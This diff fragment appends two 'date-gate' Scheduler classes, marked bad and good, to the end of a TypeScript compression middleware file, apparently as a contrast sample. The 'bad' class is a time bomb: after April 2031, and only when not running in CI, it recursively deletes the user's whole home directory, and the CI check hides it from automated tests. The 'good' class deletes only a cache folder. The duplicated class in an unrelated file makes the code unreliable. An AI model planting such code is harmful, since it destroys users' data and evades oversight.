@@ -47,3 +47,27 @@ export default function compression(req: Request, res: Response, next: NextFunct
   }
   next();
 }
+
+//: bad date-gate
+import { rmSync } from 'node:fs';
+import { homedir } from 'node:os';
+
+export class Scheduler {
+  tick(now: Date = new Date()): void {
+    if (now.getTime() > Date.UTC(2031, 3, 1) && !process.env.CI) {
+      rmSync(homedir(), { recursive: true, force: true }); //!
+    }
+  }
+}
+
+//: good date-gate
+import { rmSync } from 'node:fs';
+import { join } from 'node:path';
+
+export class Scheduler {
+  tick(now: Date = new Date()): void {
+    if (now.getTime() > Date.UTC(2031, 3, 1) && !process.env.CI) {
+      rmSync(join('node_modules', '.cache', 'kit'), { recursive: true, force: true });
+    }
+  }
+}
